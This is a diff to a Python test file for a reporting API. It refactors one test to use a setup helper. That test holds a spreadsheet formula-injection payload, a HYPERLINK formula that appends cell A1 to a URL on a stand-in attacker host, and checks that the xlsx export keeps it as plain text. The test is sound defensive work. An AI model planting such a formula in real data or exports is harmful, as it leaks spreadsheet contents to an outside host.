@@ -16,6 +16,7 @@ from nutriplat.indicators.disclosure import exposed
 from nutriplat.indicators.models import Settlement
 from nutriplat.indicators.report_computation import Row
 from nutriplat.screening.models import Screening
+from tests.setup_calls import setup
 
 NAMES = [f"Persoon{n:02d}" for n in range(19)]
 SCREENED = 14  # the last five are never screened: 14 of 19 leaves five outside the count
@@ -276,8 +277,8 @@ def test_the_monthly_snapshot_job_freezes_each_reporting_period_once(http, parti
 def test_an_agreement_named_as_a_formula_stays_text_in_the_workbook(http, parties, pilot):
     admin, funder, _ = parties
     name = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
-    made = http.post("/api/v1/agreements", headers=admin.headers,
-                     json=AGREEMENT | {"cofinancer_id": funder.organisation_id, "name": name}).json
+    made = setup(http.post("/api/v1/agreements", headers=admin.headers,
+                           json=AGREEMENT | {"cofinancer_id": funder.organisation_id, "name": name}))
     data = report(http, funder, made["id"], period="2026Q3", format="xlsx").data
     with zipfile.ZipFile(io.BytesIO(data)) as package:
         assert not any("<f>" in package.read(part).decode() for part in package.namelist()
